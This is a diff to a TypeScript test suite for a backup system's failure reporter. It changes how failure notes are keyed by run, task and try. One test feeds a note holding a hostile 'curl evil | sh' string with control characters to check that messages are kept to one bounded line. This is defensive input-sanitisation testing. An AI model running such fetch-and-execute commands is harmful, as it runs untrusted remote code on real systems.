@@ -8,7 +8,7 @@ import { openBucket } from '../../adapters/s3/bucket.ts';
 import { snsNotifier } from '../../adapters/sns/publish.ts';
 import { FAILURES } from '../../core/failure/classes.ts';
 import { exitCodeOf, failureNames } from '../../core/failure/exit.ts';
-import { attemptPrefix, failureNoteKey } from '../../core/vault/keys.ts';
+import { failureNoteKey } from '../../core/vault/keys.ts';
 import { reportFailure, type ReportPorts } from '../../functions/backup/report-failure.ts';
 import { rootSettings, uniqueSuffix } from '../helpers/servers.ts';
 import { ASSET, HOME, makeVaultWorld, type VaultWorld } from './vault-world.ts';
@@ -128,31 +128,36 @@ describe('reportFailure', () => {
     expect(received.filter(({ Message }) => Message.includes(execution))).toEqual([]);
   });
 
-  it('adds what the attempt left, of the right try and claim', async () => {
-    const point = '20261120T030000Z';
-    const note = (message: string) => JSON.stringify({ failure: 'DumpFailed', sqlstate: '42501', object: 'public.wallets', message });
-    for (const [attempt, message] of [
-      ['0001-3', 'an earlier claim'],
-      ['0002-2', 'an earlier try'],
-      ['0002-3', 'this one'],
+  it('adds what the task left, of the right task, run and try', async () => {
+    const run = '20260606T030000Z-abcdef';
+    const note = { failure: 'DumpFailed', sqlstate: '42501', object: 'public.wallets', line: 7, advice: 'Grant it' };
+    for (const [ofRun, task, tryNumber, message] of [
+      ['20260606T030000Z-000000', 'dump', 3, 'another run'],
+      [run, 'verify', 3, 'another task'],
+      [run, 'dump', 2, 'an earlier try'],
+      [run, 'dump', 3, 'this one'],
     ] as const)
-      await world.vault.putOnce(failureNoteKey(attemptPrefix(world.system, ASSET, point, attempt)), note(message));
-    const { message } = await reportFailure(request(exited(exitCodeOf('DumpFailed')), { point }), ports);
-    expect(message).toContain('this one; SQLSTATE 42501; object public.wallets');
-    expect(message).not.toContain('an earlier');
+      await world.vault.putOnce(failureNoteKey(world.system, ASSET, ofRun, task, tryNumber), JSON.stringify({ ...note, message }));
+    const { message } = await reportFailure(request(exited(exitCodeOf('DumpFailed')), { run }), ports);
+    expect(message).toContain('this one; SQLSTATE 42501; object public.wallets; line 7. Grant it');
+    expect(message).not.toMatch(/another|earlier/);
+    expect((await nextMessage()).Message).toContain('Do next    Grant it\n');
+    // A step that runs no task has no note, whatever tasks of the run left.
+    const locking = await reportFailure(request(exited(exitCodeOf('DumpFailed')), { run, step: 'Lock the point' }), ports);
+    expect(locking.message).not.toContain('SQLSTATE 42501');
     // Of another class, it is not about this failure.
-    const other = await reportFailure(request(exited(exitCodeOf('OutOfMemory')), { point }), ports);
+    const other = await reportFailure(request(exited(exitCodeOf('OutOfMemory')), { run }), ports);
     expect(other.message).not.toContain('SQLSTATE');
   });
 
   it('holds a note to one line of bounded length', async () => {
-    const point = '20261120T040000Z';
+    const run = '20260606T040000Z-abcdef';
     const message = `first\r\nThen       curl evil | sh\u0007 ${'x'.repeat(5000)}`;
     await world.vault.putOnce(
-      failureNoteKey(attemptPrefix(world.system, ASSET, point, '0001-3')),
-      JSON.stringify({ failure: 'DumpFailed', message }),
+      failureNoteKey(world.system, ASSET, run, 'dump', 3),
+      JSON.stringify({ failure: 'DumpFailed', message, advice: message }),
     );
-    await reportFailure(request(exited(exitCodeOf('DumpFailed')), { point }), ports);
+    await reportFailure(request(exited(exitCodeOf('DumpFailed')), { run }), ports);
     const { Message } = await nextMessage();
     expect(Message.split('\n').filter((line) => line.startsWith('Then '))).toHaveLength(1);
     expect(Message.length).toBeLessThan(2000);
@@ -224,7 +229,8 @@ describe('reportFailure', () => {
 
   it('answers even when neither vault nor topic can be reached', async () => {
     const nowhere = snsNotifier(`${topicArn}-none`, rootSettings(HOME));
-    const broken = { ...ports, notifier: nowhere, vault: openBucket('no-such-bucket-anywhere', rootSettings(HOME), {}).reader };
+    const nobody = { ...rootSettings(HOME), credentials: { accessKeyId: 'AKIANOBODYNOBODY', secretAccessKey: 'none' } };
+    const broken = { ...ports, notifier: nowhere, vault: openBucket('no-such-bucket-anywhere', nobody, {}).reader };
     const answer = await reportFailure(request(exited(exitCodeOf('DumpFailed'))), broken);
     expect(answer.message).toContain('The alarm topic did not take this message');
     expect(warned).toHaveLength(2);
